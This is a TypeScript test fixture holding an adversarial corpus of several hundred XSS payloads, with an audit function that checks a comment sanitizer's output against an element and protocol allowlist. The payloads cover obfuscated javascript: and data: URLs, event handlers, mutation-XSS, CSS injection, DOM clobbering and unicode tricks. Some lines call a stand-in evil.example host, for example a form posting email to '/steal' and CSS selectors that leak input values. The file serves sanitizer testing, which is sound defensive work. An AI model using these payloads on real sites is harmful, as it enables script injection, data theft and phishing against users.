/**
 * An adversarial corpus of comment bodies, across the families of
 * docs/security.md: every vector must render with no script run, no handler or
 * style attribute, no element outside the allowlist and no link other than
 * http(s)/mailto. Payloads call `__pwned()` (a sentinel the tests stub) or
 * `alert`/`confirm`/`prompt` (stubbed too).
 */

/** One hostile body and the family it belongs to. */
export interface XssVector {
  family: string;
  html: string;
}

const P = '__pwned()';

/** Elements of every kind, to carry event handlers. */
const ELEMENTS = [
  'a', 'abbr', 'address', 'area', 'article', 'aside', 'audio', 'b', 'bdi', 'bdo', 'blockquote', 'body', 'br',
  'button', 'canvas', 'caption', 'code', 'col', 'colgroup', 'data', 'datalist', 'dd', 'del', 'details', 'dfn', 'dialog',
  'div', 'dl', 'dt', 'em', 'embed', 'fieldset', 'figcaption', 'figure', 'font', 'footer', 'form', 'frameset', 'h1',
  'header', 'hr', 'html', 'i', 'iframe', 'img', 'input', 'ins', 'kbd', 'keygen', 'label', 'legend', 'li', 'link',
  'main', 'map', 'mark', 'marquee', 'menu', 'meter', 'nav', 'object', 'ol', 'optgroup', 'option', 'output', 'p',
  'picture', 'pre', 'progress', 'q', 's', 'samp', 'section', 'select', 'small', 'source', 'span', 'strike', 'strong',
  'sub', 'summary', 'sup', 'table', 'tbody', 'td', 'textarea', 'tfoot', 'th', 'thead', 'time', 'tr', 'track', 'u',
  'ul', 'var', 'video', 'wbr', 'xmp', 'svg', 'math', 'image', 'isindex', 'custom-element',
];

/** Handlers, most of them firing without any interaction. */
const HANDLERS = [
  'onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'onanimationstart', 'ontoggle', 'onbegin',
  'onpageshow', 'onscroll', 'onbeforetoggle', 'onfocusin', 'onpointerenter', 'ontransitionend', 'onwheel',
];

/** `javascript:`, `data:` and `vbscript:` URLs obfuscated by entities, whitespace, controls and case. */
const BAD_URLS = [
  `javascript:${P}`,
  `JaVaScRiPt:${P}`,
  `JAVASCRIPT:${P}`,
  ` javascript:${P}`,
  `\tjavascript:${P}`,
  `\njavascript:${P}`,
  `java\tscript:${P}`,
  `java\nscript:${P}`,
  `java\rscript:${P}`,
  `java&#x09;script:${P}`,
  `java&#9;script:${P}`,
  `java&#x0A;script:${P}`,
  `java&#x0D;script:${P}`,
  `java&Tab;script:${P}`,
  `java&NewLine;script:${P}`,
  `&#106;avascript:${P}`,
  `&#x6A;avascript:${P}`,
  `&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${P}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${P}`,
  `javascript&colon;${P}`,
  `javascript&#58;${P}`,
  `javascript&#x3a;${P}`,
  `&#1;javascript:${P}`,
  `&#x0;javascript:${P}`,
  `\u0001javascript:${P}`,
  `\u001fjavascript:${P}`,
  `\u0000javascript:${P}`,
  `javascript://%0a${P}`,
  `javascript://comment%0D%0A${P}`,
  `javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${P}//'>`,
  `jav\u0000ascript:${P}`,
  `javascript\u200B:${P}`,
  `java\u00ADscript:${P}`,
  `%6A%61%76%61%73%63%72%69%70%74:${P}`,
  `j&#97;v&#97;script&#x3A;${P}`,
  `data:text/html,<script>${P}</script>`,
  `data:text/html;base64,PHNjcmlwdD5fX3B3bmVkKCk8L3NjcmlwdD4=`,
  `DATA:text/html,<script>${P}</script>`,
  ` data:text/html,<script>${P}</script>`,
  `data:image/svg+xml,<svg onload="${P}"/>`,
  `&#100;ata:text/html,<script>${P}</script>`,
  `vbscript:msgbox(1)`,
  `VBScript:msgbox(1)`,
  `vb&#x09;script:msgbox(1)`,
  `livescript:${P}`,
  `mocha:${P}`,
  `feed:javascript:${P}`,
  `blob:https://example.com/uuid`,
  `filesystem:https://example.com/temporary/x`,
  `file:///etc/passwd`,
  `ftp://example.com/`,
  `//evil.example/`,
  `/\\evil.example/`,
  `relative/path`,
];

function vectors(): XssVector[] {
  const out: XssVector[] = [];
  const add = (family: string, ...htmls: string[]) => {
    for (const html of htmls) out.push({ family, html });
  };

  add('script tags',
    `<script>${P}</script>`,
    `<SCRIPT>${P}</SCRIPT>`,
    `<ScRiPt>${P}</sCrIpT>`,
    `<script src="data:text/javascript,${P}"></script>`,
    `<script src=//evil.example/x.js></script>`,
    `<script/x>${P}</script>`,
    `<script\t>${P}</script>`,
    `<scr<script>ipt>${P}</scr</script>ipt>`,
    `<<script>${P};//<</script>`,
    `<script>${P}`,
    `<p>before<script>${P}</script>after</p>`,
    `<script type="module">${P}</script>`,
    `<script>/*</script><script>*/${P}</script>`,
    `<svg><script>${P}</script></svg>`,
    `<svg><script href="data:,${P}"/></svg>`,
    `<math><script>${P}</script></math>`,
    `<p>&lt;script&gt;${P}&lt;/script&gt;</p>`,
    `<script>document.write('<img src=x onerror=${P}>')</script>`,
  );

  for (const [i, el] of ELEMENTS.entries()) {
    const handler = HANDLERS[i % HANDLERS.length] ?? 'onerror';
    add('event handlers', `<${el} src=x ${handler}="${P}" autofocus tabindex=1 open>text</${el}>`);
  }
  add('event handlers',
    `<img src=x onerror=${P}>`,
    `<img src=x OnErRoR=${P}>`,
    `<img src=x onerror="&#95;&#95;pwned()">`,
    `<img src=x onerror=javascript:${P}>`,
    `<img/src=x/onerror=${P}>`,
    `<img src=x onerror\n=${P}>`,
    `<img src=x "onerror=${P}">`,
    `<img src="x" onerror='${P}'//`,
    `<img src=\`x\` onerror=${P}>`,
    `<p onmouseover=${P} style="display:block;width:100%;height:100%">hover</p>`,
    `<b onclick=${P}>bold</b>`,
    `<a href="https://example.com/" onclick="${P}">link</a>`,
    `<a href="https://example.com/" onfocus="${P}" autofocus>link</a>`,
    `<li onclick=${P}>item</li>`,
    `<blockquote oncopy=${P}>q</blockquote>`,
    `<code onpaste=${P}>c</code>`,
    `<pre onmouseenter=${P}>p</pre>`,
    `<ul onclick=${P}><li>i</li></ul>`,
    `<body onload=${P}>`,
    `<svg onload=${P}>`,
    `<svg><animate onbegin=${P} attributeName=x dur=1s>`,
    `<svg><set onbegin=${P} attributeName=x to=1>`,
    `<details open ontoggle=${P}>`,
    `<video><source onerror=${P}>`,
    `<audio src onerror=${P}>`,
    `<input autofocus onfocus=${P}>`,
    `<select autofocus onfocus=${P}>`,
    `<textarea autofocus onfocus=${P}>`,
    `<keygen autofocus onfocus=${P}>`,
    `<marquee onstart=${P}>`,
    `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=${P}>a</p>`,
    `<object data=x onerror=${P}>`,
    `<iframe onload=${P}>`,
    `<frameset onload=${P}>`,
    `<img src=x onerror=alert(1)>`,
    `<img src=x onerror=confirm(1)>`,
    `<img src=x onerror=prompt(1)>`,
    `<img src=x onerror=window['al'+'ert'](1)>`,
    `<img src=x onerror=top[8680439..toString(30)](1)>`,
    `<img src=x onerror=eval(atob('X19wd25lZCgp'))>`,
  );

  for (const url of BAD_URLS) add('dangerous link URLs', `<a href="${url}">click</a>`);
  add('dangerous link URLs',
    `<a href=javascript:${P}>unquoted</a>`,
    `<a href='javascript:${P}'>single</a>`,
    `<a href="javascript:${P}" href="https://ok.example/">first wins</a>`,
    `<a href="https://ok.example/" href="javascript:${P}">duplicate</a>`,
    `<a xlink:href="javascript:${P}">xlink</a>`,
    `<a href="https://ok.example/"><a href="javascript:${P}">nested</a></a>`,
    `<a href="https://ok.example/">x<table><tr><td><a href="javascript:${P}">forced nesting</a></td></tr></table></a>`,
    `<a href="mailto:x@example.com?body=<script>${P}</script>">mail</a>`,
    `<a href="https://ok.example/" target="_top" ping="https://evil.example/" download>extras</a>`,
    `<a href="https://ok.example/" rel="opener">opener</a>`,
  );
  for (const url of BAD_URLS.slice(0, 20)) {
    add('dangerous URLs in other attributes',
      `<iframe src="${url}"></iframe>`,
      `<form action="${url}"><button>go</button></form>`,
    );
  }
  add('dangerous URLs in other attributes',
    `<img src="javascript:${P}">`,
    `<img srcset="javascript:${P} 1x">`,
    `<object data="javascript:${P}"></object>`,
    `<embed src="javascript:${P}">`,
    `<button formaction="javascript:${P}">go</button>`,
    `<input type=image src=x formaction="javascript:${P}">`,
    `<isindex action="javascript:${P}" type=image>`,
    `<area href="javascript:${P}">`,
    `<svg><a xlink:href="javascript:${P}"><text y=20>svg link</text></a></svg>`,
    `<svg><a href="javascript:${P}"><text y=20>svg2 link</text></a></svg>`,
    `<math href="javascript:${P}">math link</math>`,
    `<math><maction actiontype="statusline" xlink:href="javascript:${P}">m</maction></math>`,
    `<link rel=stylesheet href="javascript:${P}">`,
    `<video poster="javascript:${P}">`,
    `<svg><image href="javascript:${P}"/></svg>`,
  );

  add('embedded documents, forms and metadata',
    `<iframe srcdoc="&lt;script&gt;parent.${P}&lt;/script&gt;"></iframe>`,
    `<iframe srcdoc="<img src=x onerror=parent.${P}>"></iframe>`,
    `<iframe src="data:text/html,<script>parent.${P}</script>"></iframe>`,
    `<object data="data:text/html,<script>parent.${P}</script>"></object>`,
    `<object type="text/html" data="about:blank"><param name=x value=y></object>`,
    `<embed src="data:text/html,<script>parent.${P}</script>">`,
    `<embed type="image/svg+xml" src="data:image/svg+xml,<svg onload='parent.${P}'/>">`,
    `<frameset><frame src="javascript:${P}"></frameset>`,
    `<form><button formaction=javascript:${P}>submit</button></form>`,
    `<form action="https://evil.example/steal" method=post><input name=email></form>`,
    `<base href="javascript:/">`,
    `<base href="https://evil.example/"><a href="/x">relative after base</a>`,
    `<meta http-equiv="refresh" content="0;url=javascript:${P}">`,
    `<meta http-equiv="refresh" content="0; url=https://evil.example/">`,
    `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">`,
    `<meta charset="utf-7">+ADw-script+AD4-${P}+ADw-/script+AD4-`,
    `<link rel=import href="data:text/html,<script>${P}</script>">`,
    `<link rel=prefetch href="https://evil.example/">`,
    `<portal src="https://evil.example/"></portal>`,
    `<dialog open>phishing dialog</dialog>`,
    `<template><script>${P}</script></template>`,
    `<template shadowrootmode="open"><img src=x onerror=${P}></template>`,
    `<div><template shadowrootmode="open"><script>${P}</script></template></div>`,
    `<slot name=x>slot</slot>`,
    `<applet code="x.class"></applet>`,
  );

  add('mutation and namespace confusion',
    `<noscript><p title="</noscript><img src=x onerror=${P}>"></noscript>`,
    `<noscript><style></noscript><img src=x onerror=${P}></style></noscript>`,
    `<svg></p><style><a id="</style><img src=1 onerror=${P}>">`,
    `<svg><p><style><a id="</style><img src=1 onerror=${P}>">`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${P}>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${P}&gt;">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${P}>`,
    `<svg><style><img src=x onerror=${P}></style></svg>`,
    `<svg><style>&lt;img src=x onerror=${P}&gt;</style></svg>`,
    `<svg><foreignObject><img src=x onerror=${P}></foreignObject></svg>`,
    `<svg><desc><img src=x onerror=${P}></desc></svg>`,
    `<math><annotation-xml encoding="text/html"><img src=x onerror=${P}></annotation-xml></math>`,
    `<math><mi><img src=x onerror=${P}></mi></math>`,
    `<noembed><img title="</noembed><img src onerror=${P}>"></noembed>`,
    `<noframes><img title="</noframes><img src onerror=${P}>"></noframes>`,
    `<xmp><img title="</xmp><img src onerror=${P}>"></xmp>`,
    `<iframe><img title="</iframe><img src onerror=${P}>"></iframe>`,
    `<textarea><img title="</textarea><img src onerror=${P}>"></textarea>`,
    `<title><img title="</title><img src onerror=${P}>"></title>`,
    `<style><img title="</style><img src onerror=${P}>"></style>`,
    `<listing>&lt;img src=x onerror=${P}&gt;</listing>`,
    `<plaintext><img src=x onerror=${P}>`,
    `<!--<img src=x onerror=${P}>-->`,
    `<!-- --!><img src=x onerror=${P}>-->`,
    `<!--><img src=x onerror=${P}>-->`,
    `<!---><img src=x onerror=${P}>-->`,
    `<svg><![CDATA[><img src=x onerror=${P}>]]></svg>`,
    `<![CDATA[<img src=x onerror=${P}>]]>`,
    `<?xml version="1.0"?><img src=x onerror=${P}>`,
    `<?php echo 1 ?><img src=x onerror=${P}>`,
    `<!DOCTYPE html><img src=x onerror=${P}>`,
    `<p>a</p><select><option><img src=x onerror=${P}></option></select>`,
    `<table><td><img src=x onerror=${P}></td></table>`,
    `<table><caption><svg onload=${P}>`,
    `<a href="https://ok.example/"><svg><a href="javascript:${P}">inner</a></svg></a>`,
    `<p id="</p><img src=x onerror=${P}>">attr text</p>`,
    `<p title="&lt;img src=x onerror=${P}&gt;">entity attr</p>`,
    `<img src="x\` \`<script>${P}</script>"\` \`>`,
    `<div id="x"></div><svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${P}'/></svg>#x"/></svg>`,
    `<svg><animate attributeName=href values="javascript:${P}" /><a><text y=20>anim</text></a></svg>`,
    `<svg><set attributeName="onmouseover" to="${P}"/></svg>`,
    `<math><style><img src=x onerror=${P}></style></math>`,
    `<selectedcontent><img src=x onerror=${P}></selectedcontent>`,
    `<svg><foreignObject><iframe srcdoc="<script>parent.${P}</script>"></iframe></foreignObject></svg>`,
    `</p><img src=x onerror=${P}>`,
    `<p>unclosed <b>bold <i>italic <img src=x onerror=${P}>`,
    `<a href="https://ok.example/" <img src=x onerror=${P}>>broken</a>`,
    `<img src=x onerror=${P}//`,
  );

  add('CSS',
    `<p style="background:url(javascript:${P})">bg</p>`,
    `<p style="background-image:url('https://evil.example/track.png')">tracker</p>`,
    `<div style="width:expression(${P})">ie</div>`,
    `<div style="-moz-binding:url(https://evil.example/xbl#x)">xbl</div>`,
    `<div style="behavior:url(x.htc)">htc</div>`,
    `<p style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:red">overlay</p>`,
    `<p style="position:absolute;top:-500px">escape the box</p>`,
    `<style>@import 'https://evil.example/x.css';</style>`,
    `<style>*{display:none!important}</style>`,
    `<style>body{background:url("javascript:${P}")}</style>`,
    `<style>input[value^=a]{background:url(https://evil.example/a)}</style>`,
    `<link rel=stylesheet href="https://evil.example/x.css">`,
    `<STYLE>@im\\port'\\ja\\vasc\\ript:${P}';</STYLE>`,
    `<p style="x:ex/**/pression(${P})">comment split</p>`,
    `<p style="\\62 ackground:url(javascript:${P})">escaped</p>`,
    `<font face="x" style="font-family:'</style><img src=x onerror=${P}>'">f</font>`,
    `<strong class="natter-comment" id="natter">class and id</strong>`,
    `<em dir="rtl" lang="ar" hidden>hidden attrs</em>`,
  );

  add('DOM clobbering',
    `<form id=natter><input name=parentNode></form>`,
    `<form name=body><input name=firstChild></form>`,
    `<img name=getElementById src=x>`,
    `<img name=cookie src=x>`,
    `<img name=createElement src=x>`,
    `<a id=__pwned href="https://ok.example/">clobber sentinel</a>`,
    `<a id=alert href="https://ok.example/">clobber alert</a>`,
    `<a id=x><a id=x name=y href="javascript:${P}">double</a>`,
    `<form id=x><input id=y name=attributes><input name=nodeName></form>`,
    `<form><input name=firstChild><input name=nextSibling><input name=childNodes><p>form text</p></form>`,
    `<form><input name=nodeType><input name=localName><input name=namespaceURI><b>bold</b></form>`,
    `<form><input name=getAttribute><input name=hasAttribute><a href="javascript:${P}">x</a></form>`,
    `<iframe name=__pwned></iframe>`,
    `<embed name=defaultView>`,
    `<object name=location data=x></object>`,
    `<form name=document><img name=defaultView></form>`,
    `<img id=natter-config name=config src=x>`,
    `<a id=CONFIG name=CONFIG href="javascript:${P}">config</a>`,
  );

  add('unicode and bidi',
    `<a href="https://good.example/\u202Egpj.exe">bidi file</a>`,
    `<p>\u202Etxet desrever\u202C</p>`,
    `<p>\u2066isolate\u2069 \u200F rtl mark</p>`,
    `\uFF1Cscript\uFF1E${P}\uFF1C/script\uFF1E`,
    `<scr\u0000ipt>${P}</scr\u0000ipt>`,
    `<img src=x onerror\u0000=${P}>`,
    `<a href="j\u0430vascript:${P}">cyrillic a</a>`,
    `<a href="https://xn--80ak6aa92e.example/">punycode</a>`,
    `<a href="https://раураl.example/">homoglyph host</a>`,
    `<p>\uD800 lone surrogate \uDFFF</p>`,
    `<p>zero\u200Bwidth\u200Cjoin\u200Dchars\uFEFF</p>`,
    `<p>\u0000\u0001\u0008\u000B\u007F controls</p>`,
    `<img src=x on\u200Berror=${P}>`,
    `<a href="\u2028javascript:${P}">line sep</a>`,
    `<a href="\u00A0javascript:${P}">nbsp</a>`,
    `<a href="\u3000javascript:${P}">ideographic space</a>`,
    `<ſcript>${P}</ſcript>`,
    `<ımg src=x onerror=${P}>`,
    `<p>e\u0301 combining \uD83D\uDE00 emoji</p>`,
  );

  add('very deep nesting',
    `${'<div>'.repeat(600)}<img src=x onerror=${P}>${'</div>'.repeat(600)}`,
    `${'<blockquote>'.repeat(200)}<a href="javascript:${P}">deep</a>${'</blockquote>'.repeat(200)}`,
    `${'<ul><li>'.repeat(150)}deep list<img src=x onerror=${P}>${'</li></ul>'.repeat(150)}`,
    `${'<b><i>'.repeat(300)}formatting${'</i></b>'.repeat(300)}`,
    `${'<span>'.repeat(1000)}<script>${P}</script>${'</span>'.repeat(1000)}`,
    `${'<svg>'.repeat(100)}<img src=x onerror=${P}>`,
    `${'<table><tr><td>'.repeat(100)}<img src=x onerror=${P}>`,
    `${'<a href="https://ok.example/">'.repeat(200)}anchors`,
    `${'<p>'.repeat(3000)}paragraphs<img src=x onerror=${P}>`,
    `${'<math><mtext>'.repeat(80)}<img src=x onerror=${P}>`,
  );

  const manyAttributes = (count: number) => Array.from({ length: count }, (_, i) => `a${i}="${i}"`).join(' ');
  add('huge attribute counts',
    `<p ${manyAttributes(2000)} onclick=${P}>many</p>`,
    `<img ${manyAttributes(3000)} src=x onerror=${P}>`,
    `<a ${Array.from({ length: 500 }, () => `href="javascript:${P}"`).join(' ')}>hrefs</a>`,
    `<a ${manyAttributes(1000)} href="javascript:${P}">late href</a>`,
    `<b ${Array.from({ length: 1000 }, (_, i) => `on${HANDLERS[i % HANDLERS.length]?.slice(2)}${i}=${P}`).join(' ')}>x</b>`,
    `<p title="${'x'.repeat(100_000)}">long attribute</p>`,
    `<a href="https://ok.example/${'a'.repeat(50_000)}">long url</a>`,
    `${'<i>x</i>'.repeat(20_000)}`,
  );

  return out;
}

/** The corpus: hundreds of hostile bodies. */
export const XSS_CORPUS: readonly XssVector[] = vectors();

/** Elements a rendered body may contain. */
export const ALLOWED_ELEMENTS: ReadonlySet<string> = new Set([
  'p', 'br', 'strong', 'b', 'em', 'i', 'code', 'pre', 'blockquote', 'ul', 'ol', 'li', 'a',
]);

/** Link protocols a rendered body may contain. */
export const ALLOWED_PROTOCOLS: ReadonlySet<string> = new Set(['http:', 'https:', 'mailto:']);

/**
 * What is wrong with a rendered body: disallowed elements, any attribute but
 * `href`/`rel` on links (so no `on*`, `style`, `id`, `name`…), a link whose
 * parsed protocol is not http(s)/mailto. Empty when the body is safe. Runs in
 * jsdom and, stringified, in Chromium, so it uses nothing but the DOM.
 */
export function auditRendered(container: Element): string[] {
  const allowed = new Set(['p', 'br', 'strong', 'b', 'em', 'i', 'code', 'pre', 'blockquote', 'ul', 'ol', 'li', 'a']);
  const protocols = new Set(['http:', 'https:', 'mailto:']);
  const problems: string[] = [];
  for (const el of Array.from(container.querySelectorAll('*'))) {
    const name = el.localName;
    if (!allowed.has(name) || el.namespaceURI !== 'http://www.w3.org/1999/xhtml') problems.push(`element <${name}>`);
    for (const attr of Array.from(el.attributes)) {
      const ok = name === 'a' && (attr.name === 'href' || attr.name === 'rel');
      if (!ok) problems.push(`attribute ${attr.name} on <${name}>`);
    }
    if (name === 'a') {
      const href = el.getAttribute('href');
      const protocol = (el as HTMLAnchorElement).protocol;
      if (href !== null && !protocols.has(protocol)) problems.push(`link protocol ${protocol}`);
      if (el.getAttribute('rel') !== 'nofollow ugc noopener noreferrer') problems.push('link without the ugc rel');
      if (el.querySelector('a')) problems.push('link inside a link');
    }
  }
  return problems;
}
